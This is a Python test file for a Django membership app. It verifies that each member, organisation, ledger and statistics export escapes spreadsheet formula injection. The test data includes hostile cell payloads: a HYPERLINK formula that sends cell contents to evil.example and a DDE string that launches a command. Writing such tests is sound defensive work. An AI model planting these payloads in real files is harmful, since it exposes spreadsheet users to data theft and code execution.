"""Formula injection: no export writes text a spreadsheet would run as a formula.

Each export path is fed a record whose free text starts with a formula character and read back:
in an xlsx the cell must be text (not a formula) starting with an apostrophe, in a CSV the field
must start with the apostrophe. A source scan makes sure a module that writes spreadsheets goes
through ``partybuild.exports``, so a new export cannot forget.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from imports import parsing
from imports.models import ImportKind
from imports.report import ImportReport
from imports.resources import MemberResource
from organizations.models import Member, Organization
from partybuild.exports import SafeExportResource, safe_cell, safe_row, unescape_cell
from services.services import demand_create
from tests.imports import MEMBER_HEADERS, csv_bytes
from tests.organizations.factories import MemberFactory, make_org

EVIL = ['=HYPERLINK("http://evil.example/?"&E2,"详情")', "+1+1", "-2+3", "@SUM(1,1)", "\tcmd", "\rcmd", "＝1+1"]
ROOT = Path(__file__).resolve().parent.parent


def _xlsx_cells(data: bytes) -> list:
    """Every non-empty cell, formulas left as formulas (not data_only)."""
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_xlsx_safe(data: bytes, *evil: str) -> None:
    cells = _xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell was written as a formula"
    # XML reads a carriage return back as a line feed.
    values = {c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value for c in cells}
    for text in evil:
        assert "'" + text.replace("\r", "\n") in values, text


def _csv_fields(data: bytes) -> set[str]:
    return {f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for f in row}


@pytest.mark.parametrize("value", EVIL)
def test_text_that_starts_a_formula_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value
    assert unescape_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", [-5, -2.5, 0, 3, None, dt.date(2026, 1, 2), True, "李红", "a=b", "'=x"])
def test_numbers_dates_and_harmless_text_are_unchanged(value):
    """A negative amount stays a number; escaping twice changes nothing."""
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_safe_export_resource_escapes_whatever_a_subclass_computes(tree):
    class VersionedResource(SafeExportResource):
        class Meta:
            model = Member
            fields = ("name", "version")

        def dehydrate_version(self, member):
            return -member.version  # a number, negative: must stay one

    MemberFactory(name="=1+1", branch=tree.g1)
    dataset = VersionedResource().export(queryset=Member.objects.all())
    assert list(dataset[0]) == ["'=1+1", -1]


@pytest.fixture
def evil_members(tree):
    return [MemberFactory(name=name[:50], branch=tree.g1, work_unit=name) for name in EVIL]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_member_export_page_is_safe(client, dana, evil_members, fmt):
    client.force_login(dana)
    response = client.get(reverse("imports:member-export"), {"format": fmt})
    if fmt == "xlsx":
        _assert_xlsx_safe(response.content, *EVIL)
    else:
        assert {"'" + e for e in EVIL} <= _csv_fields(response.getvalue())


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_organisation_export_page_is_safe(client, dana, tree, fmt):
    make_org(tree.c1, "grid", "G8", "=1+1")
    make_org(tree.c1, "grid", "-G9", "@x")  # the code is text too
    client.force_login(dana)
    response = client.get(reverse("imports:org-export"), {"format": fmt})
    if fmt == "xlsx":
        _assert_xlsx_safe(response.content, "=1+1", "-G9", "@x")
    else:
        assert {"'=1+1", "'-G9", "'@x"} <= _csv_fields(response.getvalue())


def test_ledger_exports_are_safe(client, gina, dana, tree):
    demand_create(user=gina, organization=tree.g1, received_on=dt.date(2026, 3, 1), source="letter",
                  resident_name="=1+1", content='=HYPERLINK("http://evil.example","x")')
    Organization.objects.filter(pk=tree.district.pk).update(name="=cmd|' /C calc'!A0")
    client.force_login(dana)
    data = client.get(reverse("services:demand-export")).content
    cells = _xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'=1+1" in values and "'=HYPERLINK(\"http://evil.example\",\"x\")" in values
    assert values[0].startswith("'=cmd")  # the title names the organisation


def test_rejected_rows_workbook_is_safe(tree, alice):
    """The rejected rows are the uploader's own cells: exactly what an attacker controls."""
    rows = [MEMBER_HEADERS, ["=1+1", "男", "", "not an id", "", "2010-07-01", "", "G1"]]
    report = ImportReport(table=parsing.read_table("members", io.BytesIO(csv_bytes(rows)), "members.csv"))
    report.reject(report.table.rows[0], "bad")
    _assert_xlsx_safe(report.rejected_workbook(), "=1+1")


def test_template_download_is_plain_text(client, alice):
    client.force_login(alice)
    for kind in ImportKind.values:
        cells = _xlsx_cells(client.get(reverse("imports:template", args=[kind])).content)
        assert cells and not [c for c in cells if c.data_type == "f"]


def test_an_escaped_export_imports_back_unchanged(client, dana, tree):
    MemberFactory(name="-", branch=tree.g1, work_unit="=1+1")
    client.force_login(dana)
    data = client.get(reverse("imports:member-export")).content
    rows = parsing.read_table("members", io.BytesIO(data), "members.xlsx").rows
    assert (rows[0].data["name"], rows[0].data["work_unit"]) == ("-", "=1+1")


def test_member_resource_is_a_safe_export_resource():
    assert issubclass(MemberResource, SafeExportResource)


# Anything that writes a spreadsheet: openpyxl workbooks, csv writers, tablib/import-export exports.
_WRITERS = ("Workbook", "writer", "DictWriter", "ModelResource", "Resource", "export_data")


def _writes_spreadsheets(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module in ("openpyxl", "import_export.resources") \
                and any(alias.name in _WRITERS for alias in node.names):
            return True
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and (node.value.id, node.attr) in (
            ("csv", "writer"), ("csv", "DictWriter"), ("resources", "ModelResource"), ("resources", "Resource"),
        ):
            return True
    return False


def test_every_module_that_writes_spreadsheets_uses_the_safe_helpers():
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in ("tests", ".venv", "bench", "scripts") or "migrations" in rel.parts:
            continue
        source = path.read_text(encoding="utf-8")
        if rel.as_posix() == "partybuild/exports.py" or not _writes_spreadsheets(ast.parse(source)):
            continue
        if not any(name in source for name in ("safe_cell", "safe_row", "SafeExportResource")):
            offenders.append(rel.as_posix())
    assert offenders == [], "these modules write spreadsheets without partybuild.exports"


def test_the_scan_sees_the_known_writers():
    """The scan above would pass vacuously if it recognised nothing."""
    found = {
        path.relative_to(ROOT).as_posix() for path in ROOT.glob("*/**/*.py")
        if path.relative_to(ROOT).parts[0] not in ("tests", ".venv")
        and _writes_spreadsheets(ast.parse(path.read_text(encoding="utf-8")))
    }
    assert {"partybuild/workbooks.py", "imports/report.py", "imports/views/jobs.py", "partybuild/exports.py"} <= found
    assert safe_row(["=x", 1]) == ["'=x", 1]


@pytest.mark.parametrize("name", ["reports:stats-export", "services:stats-export", "organizations:coverage-export",
                                  "cadres:cadre-export", "cobuilding:export", "estates:registers-export"])
def test_statistics_and_register_exports_are_safe(client, alice, tree, name):
    """An organisation named like a formula stays text in the title of every converted export."""
    Organization.objects.filter(pk=tree.s1.pk).update(name="=cmd|' /C calc'!A0")
    client.force_login(alice)
    url = reverse(name, args=[tree.s1.pk]) if name == "organizations:coverage-export" else reverse(name)
    response = client.get(url)
    assert response.status_code == 200
    cells = _xlsx_cells(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert cells[0].value.startswith("'=cmd")
